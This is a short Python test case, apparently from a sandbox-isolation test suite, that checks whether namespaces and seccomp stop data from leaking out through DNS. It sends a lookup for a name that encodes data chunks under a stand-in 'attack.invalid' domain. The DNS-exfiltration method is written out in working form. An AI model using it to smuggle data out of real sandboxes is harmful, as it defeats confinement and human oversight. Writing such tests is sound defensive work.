"""Asks a name server for a name that holds what it knows.

Aim: hidden inputs sent out where only names may be looked up.
Defence: namespaces, seccomp
Control: without namespaces, seccomp
Part: function_gan
"""

import socket
import struct

NAME = "c0-1234.c1-5678.attack.invalid"
QUERY = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0)
QUERY += b"".join(bytes([len(part)]) + part.encode() for part in NAME.split(".")) + b"\0"
QUERY += struct.pack("!2H", 1, 1)

answer = b""
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.settimeout(1)
        server.sendto(QUERY, ("127.0.0.1", PORT))
        answer = server.recv(512)
except OSError:
    pass


def succeeded():
    return b"DECOY-" in answer
